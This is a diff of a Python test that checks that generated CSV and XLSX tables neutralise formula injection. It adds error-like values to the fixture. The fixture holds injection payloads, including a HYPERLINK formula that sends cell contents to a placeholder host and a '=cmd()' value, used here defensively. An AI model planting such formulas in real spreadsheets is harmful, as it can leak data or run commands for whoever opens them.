@@ -51,7 +51,14 @@ def test_no_cell_of_the_tables_is_a_formula(projects, batch_of: RunBatch, tmp_pa
     file = tmp_path / "applicants.csv"
     evil = '=HYPERLINK("http://example.org/?"&A1)'
     with file.open("w", newline="") as out:
-        csv.writer(out).writerows([["name", "@note", "repo"], [evil, "+1", projects[0]], ["\t-1", "x", "=cmd()"]])
+        csv.writer(out).writerows(
+            [
+                ["name", "@note", "repo"],
+                [evil, "+1", projects[0]],
+                ["\t-1", "x", "=cmd()"],
+                ["#N/A", "#REF!", projects[1]],
+            ]
+        )
     batch_of(file)
     for name in ("batch.csv", "pairs.csv"):
         with (tmp_path / "out" / name).open(encoding="utf-8-sig", newline="") as table:
@@ -59,6 +66,7 @@ def test_no_cell_of_the_tables_is_a_formula(projects, batch_of: RunBatch, tmp_pa
         assert [cell for cell in cells if cell.lstrip()[:1] in ("=", "+", "-", "@")] == []
     book = load_workbook(tmp_path / "out" / "batch.xlsx")
     found = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
-    assert [cell.value for cell in found if cell.data_type == "f"] == []
+    assert [cell.value for cell in found if cell.data_type in ("f", "e")] == []
+    assert {"#N/A", "#REF!"} <= {cell.value for cell in found}  # a name is a name, also where it reads as an error
     assert f"'{evil}" in [cell.value for cell in found]
     book.close()
